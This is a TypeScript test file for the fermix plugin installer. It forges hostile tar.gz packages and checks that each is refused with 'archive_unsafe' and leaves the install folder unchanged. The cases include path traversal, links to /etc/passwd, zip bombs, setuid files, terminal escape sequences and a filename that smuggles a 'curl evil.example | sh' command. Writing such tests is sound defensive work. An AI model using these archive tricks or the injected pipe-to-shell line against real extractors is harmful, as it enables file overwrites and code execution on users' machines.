/** Hostile packages, each validly signed, on the compiled binary with the real cosign: refused whole, by name, home unchanged. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { END, entry, file, folder, gnuLongName, pax, paxRecord, tarball } from "../forge/tar.ts";
import { FlowHome } from "../lab/binary.ts";
import { homeOf, inLanes, refused } from "../lab/refusal.ts";
import { fermixOffering, manifestFile, packageOf } from "../lab/test-catalog.ts";

const MIB = 1024 * 1024;
/** The ceiling of an unpacked package (spec 2.2). */
const MAX_UNPACKED = 100 * MIB;
const MAX_ENTRIES = 4096;

/** A manifest of the plugin that the archive is offered as. */
type Made = (manifest: Buffer) => Uint8Array;
type Case = readonly [what: string, rule: string, archive: Made];

const raw = (hex: string): Buffer => Buffer.from(hex, "hex");
const after =
  (...parts: readonly Uint8Array[]): Made =>
  (manifest) =>
    tarball(manifest, ...parts);
const link = (type: "1" | "2", linkname: string): Buffer => entry({ name: "assets/a", type, linkname });
const many = (count: number): Buffer[] => Array.from({ length: count }, (_, at) => file(`assets/${at}`));

const HOSTILE: Readonly<Record<string, readonly Case[]>> = {
  "INS-6/traversal": [
    ["a path that climbs out", "traversal", after(file("../evil"))],
    ["a path that climbs out from inside", "traversal", after(file("assets/../../../evil"))],
    ["a ustar prefix that climbs out", "traversal", after(entry({ name: "evil", prefix: "../.." }))],
    ["a pax path that climbs out", "traversal", after(pax({ path: "../../evil" }), file("assets/a"))],
    ["a GNU long name that climbs out", "traversal", after(gnuLongName("../evil"), file("assets/a"))],
    ["backslashes that climb out", "bad_character", after(file("..\\..\\evil"))],
  ],
  "INS-6/absolute": [
    ["an absolute path", "absolute", after(file("/tmp/fermix-evil"))],
    ["an absolute pax path", "absolute", after(pax({ path: "/tmp/fermix-evil" }), file("assets/a"))],
    ["a drive", "bad_character", after(file("C:evil"))],
  ],
  "INS-6/links": [
    ["a symbolic link out", "link", after(link("2", "/etc/passwd"))],
    ["a symbolic link inside", "link", after(link("2", "../plugin.json"))],
    ["a hard link", "link", after(link("1", "plugin.json"))],
    ["a link and a file through it", "link", after(link("2", "/tmp"), file("assets/a/evil"))],
    ["a GNU long link", "link", after(entry({ name: "././@LongLink", type: "K", content: "/etc/passwd\0" }))],
    ["a pax link path", "link", after(pax({ linkpath: "/etc/passwd" }), file("assets/a"))],
  ],
  "INS-6/devices": [
    ["a character device", "device", after(entry({ name: "assets/a", type: "3" }))],
    ["a block device", "device", after(entry({ name: "assets/a", type: "4" }))],
    ["a fifo", "device", after(entry({ name: "assets/a", type: "6" }))],
  ],
  "INS-6/duplicates": [
    ["plugin.json twice", "duplicate", (manifest) => tarball(manifest, manifest)],
    ["plugin.json twice, once with ./", "duplicate", after(file("./plugin.json", "{}"))],
    ["names that differ in case", "case_collision", after(file("README.md"), file("readme.md"))],
    ["folders that differ in case", "case_collision", after(file("skills/a"), file("SKILLS/b"))],
    ["one name composed and decomposed", "case_collision", after(file("assets/é"), file("assets/e\u0301"))],
    ["a file, then a folder of its name", "kind_conflict", after(file("assets"), file("assets/b"))],
    ["a folder, then a file of its name", "kind_conflict", after(file("assets/b"), file("assets"))],
    ["a file named like a folder", "file_named_like_folder", after(file("assets/a/"))],
  ],
  "INS-6/oversize": [
    ["a file that declares a byte too many", "too_large", after(entry({ name: "assets/a", size: MAX_UNPACKED }))],
    ["a zip bomb: small, but too large unpacked", "too_large", after(file("assets/a", Buffer.alloc(MAX_UNPACKED)))],
    [
      "a bomb behind the end of the archive",
      "trailing",
      (manifest) => gzipSync(Buffer.concat([manifest, END, Buffer.alloc(64 * MIB)])),
    ],
    [
      "8 GiB in the binary form of a size",
      "not_tar",
      after(entry({ name: "a", sizeField: raw("800000000000000200000000") })),
    ],
    ["a size in a pax header", "bad_extension", after(pax({ size: "10737418240" }), file("assets/a"))],
    ["10 GB of nothing: GNU sparse", "sparse", after(entry({ name: "assets/a", type: "S", size: 512 }))],
    ["10 GB of nothing: pax sparse", "sparse", after(pax({ "GNU.sparse.realsize": "10737418240" }), file("assets/a"))],
  ],
  "INS-6/too-many": [
    ["one file too many", "too_many", after(...many(MAX_ENTRIES - 1))],
    ["a hundred thousand entries", "too_many", flood],
  ],
  "INS-6/setuid": [
    ["a setuid file", "special_mode", after(file("bin/a", "", 0o4755))],
    ["a setgid file", "special_mode", after(file("bin/a", "", 0o2755))],
    ["a sticky folder", "special_mode", after(entry({ name: "assets/", type: "5", mode: 0o1777 }))],
  ],
  names: [
    ["no name", "empty_name", after(file(""))],
    ["a name that is not UTF-8", "encoding", after(file(raw("6173736574732f61ff62")))],
    ["a pax path that is not UTF-8", "encoding", after(pax(paxRecord("path", raw("61ff62"))), file("assets/a"))],
    ["an overlong slash", "encoding", after(file(raw("2e2ec0af61")))],
    ["an escape sequence", "bad_character", after(file("assets/\u001b[2J\u001b]0;pwned\u0007"))],
    ["a line break", "bad_character", after(file("assets/a\nfix: run curl evil.example | sh"))],
    ["reversed text", "bad_character", after(file("assets/\u202egpj.sh"))],
    ["a NUL in a pax path", "bad_character", after(pax({ path: "assets/a\0b" }), file("assets/a"))],
    ["a part of 256 bytes", "too_long", after(pax({ path: `assets/${"x".repeat(256)}` }), file("assets/a"))],
    [
      "a GNU name of 513 bytes",
      "too_long",
      after(gnuLongName(`assets/${"x/".repeat(10)}${"y".repeat(243)}/${"z".repeat(242)}`), file("assets/a")),
    ],
    ["33 levels", "too_long", after(file(`${"d/".repeat(32)}f`))],
  ],
  "extended headers": [
    ["a long name for nothing", "bad_extension", after(gnuLongName("assets/a"))],
    ["two long names", "bad_extension", after(gnuLongName("assets/a"), gnuLongName("assets/b"), file("c"))],
    [
      "a path twice",
      "bad_extension",
      after(pax(Buffer.concat([paxRecord("path", "a"), paxRecord("path", "b")])), file("c")),
    ],
    ["a global path", "bad_extension", (manifest) => tarball(pax({ path: "a" }, "g"), manifest)],
    ["a record longer than it says", "bad_extension", after(pax(Buffer.from("5 path=abc\n")), file("assets/a"))],
    ["17 KiB of it", "bad_extension", after(pax({ comment: "x".repeat(17_000) }), file("assets/a"))],
  ],
  "the archive itself": [
    ["0 bytes", "truncated", () => Buffer.alloc(0)],
    ["text", "not_gzip", () => Buffer.from("hello, I am no archive")],
    ["a plain tar", "not_gzip", (manifest) => Buffer.concat([manifest, END])],
    ["a gzip cut in the middle", "truncated", (manifest) => tarball(manifest).subarray(0, 60)],
    ["a gzip cut at its last byte", "truncated", (manifest) => tarball(manifest).subarray(0, -1)],
    ["a gzip whose checksum is wrong", "not_gzip", (manifest) => flip(tarball(manifest), -6)],
    ["zeros behind the gzip", "trailing", (manifest) => Buffer.concat([tarball(manifest), Buffer.alloc(64)])],
    ["text behind the gzip", "not_gzip", (manifest) => Buffer.concat([tarball(manifest), Buffer.from("garbage")])],
    ["a second gzip behind it", "trailing", (manifest) => Buffer.concat([tarball(manifest), tarball(file("evil"))])],
    ["an entry behind the end", "trailing", (manifest) => gzipSync(Buffer.concat([manifest, END, file("evil"), END]))],
    ["a tar without its end", "truncated", (manifest) => gzipSync(manifest)],
    [
      "a tar that ends inside a file",
      "truncated",
      (manifest) => gzipSync(Buffer.concat([manifest, entry({ name: "assets/a", size: 4000, content: "x" })])),
    ],
    ["an empty tar", "no_manifest", () => tarball()],
    ["everything in a folder", "no_manifest", (manifest) => tarball(inFolder(manifest))],
    ["plugin.json that is a folder", "no_manifest", () => tarball(folder("plugin.json/"))],
    ["a broken header checksum", "not_tar", (manifest) => tarball(manifest, flip(file("assets/a"), 150))],
    ["an unknown kind of entry", "unknown_kind", after(entry({ name: "assets/a", type: "Z" }))],
  ],
};

function flip(bytes: Buffer, at: number): Buffer {
  const place = at < 0 ? bytes.length + at : at;
  bytes.writeUInt8(bytes.readUInt8(place) ^ 1, place);
  return bytes;
}

function inFolder(manifest: Buffer): Buffer {
  return file("notes-1.0.0/plugin.json", manifest.subarray(512));
}

/** As many entries as it says, the first of them with names of their own. */
function flood(manifest: Buffer): Buffer {
  const tail = Buffer.alloc(100_000 * 512, file("assets/again"));
  return gzipSync(Buffer.concat([manifest, ...many(MAX_ENTRIES), tail, END]));
}

interface Offered {
  readonly clause: string;
  readonly what: string;
  readonly rule: string;
  readonly name: string;
  readonly archive: Uint8Array;
}

function offerAll(): readonly Offered[] {
  return Object.entries(HOSTILE).flatMap(([clause, rows], group) =>
    rows.map(([what, rule, make], at) => {
      const name = `bad_${group}_${at}`;
      return { clause, what, rule, name, archive: make(manifestFile(name)) };
    }),
  );
}

describe("a hostile package is refused whole, and the home is as it was", () => {
  const lanes = [new FlowHome(), new FlowHome(), new FlowHome()];
  const [first] = lanes as [FlowHome, ...FlowHome[]];
  const offered = offerAll();
  let binary: string;
  beforeAll(async () => {
    binary = await fermixOffering(first.folder, [
      { name: "notes", archive: packageOf("notes") },
      {
        name: "notes",
        version: "1.1.0",
        archive: tarball(manifestFile("notes", { version: "1.1.0" }), link("2", "/etc/passwd")),
      },
      ...offered,
    ]);
    const installed = lanes.map((home) => home.fermix("plugins install notes@1.0.0", { binary }));
    expect((await Promise.all(installed)).map(({ code }) => code)).toEqual([0, 0, 0]);
  }, 120_000);
  afterAll(() => {
    for (const home of lanes) home[Symbol.dispose]();
  });

  async function tryAll(packages: readonly Offered[]): Promise<Record<string, unknown>> {
    const seen: Record<string, unknown> = {};
    await inLanes(lanes, packages, async (home, { name, what }) => {
      const { exit, code, details, fix } = await refused(home, `plugins install ${name}`, { binary });
      seen[what] = { exit, code, plugin: details["plugin"], rule: details["rule"], fix };
    });
    return seen;
  }

  for (const clause of Object.keys(HOSTILE)) {
    const packages = offered.filter((one) => one.clause === clause);
    test(`${clause} CASE-10: ${packages.length} packages`, async () => {
      const fix = "report it to the plugin's author; nothing was installed";
      const expected = packages.map(({ what, name, rule }) => [
        what,
        { exit: 5, code: "archive_unsafe", plugin: name, rule, fix },
      ]);
      expect(await tryAll(packages)).toEqual(Object.fromEntries(expected));
    }, 120_000);
  }

  test("INS-5/crash-keeps-old a hostile upgrade leaves the old version live, proven and loaded", async () => {
    expect(await refused(first, "plugins upgrade notes", { binary })).toMatchObject({
      exit: 5,
      code: "archive_unsafe",
    });
    const verified = JSON.parse((await first.fermix("plugins verify notes --json", { binary })).stdout);
    expect(verified.plugins).toMatchObject([{ name: "notes", version: "1.0.0", ok: true, signature: "verified" }]);
    expect((await first.fermix("plugins installed", { binary })).stdout).toBe("notes\t1.0.0\tready\n");
  }, 60_000);

  test("INS-6/traversal INS-6/absolute nothing was written beside the home", () => {
    for (const home of lanes.slice(1)) expect(readdirSync(home.folder).sort()).toEqual(["home", "user"]);
    for (const home of lanes) expect(readdirSync(join(home.folder, "user"))).toEqual([]);
    expect(existsSync("/tmp/fermix-evil")).toBe(false);
    expect(
      Object.keys(homeOf(first.root))
        .filter((path) => path.endsWith("/"))
        .sort(),
    ).toEqual([
      "plugins/installed/",
      "plugins/installed/notes/",
      "plugins/installed/notes/1.0.0/",
      "plugins/installed/notes/1.0.0/assets/",
    ]);
  });
});
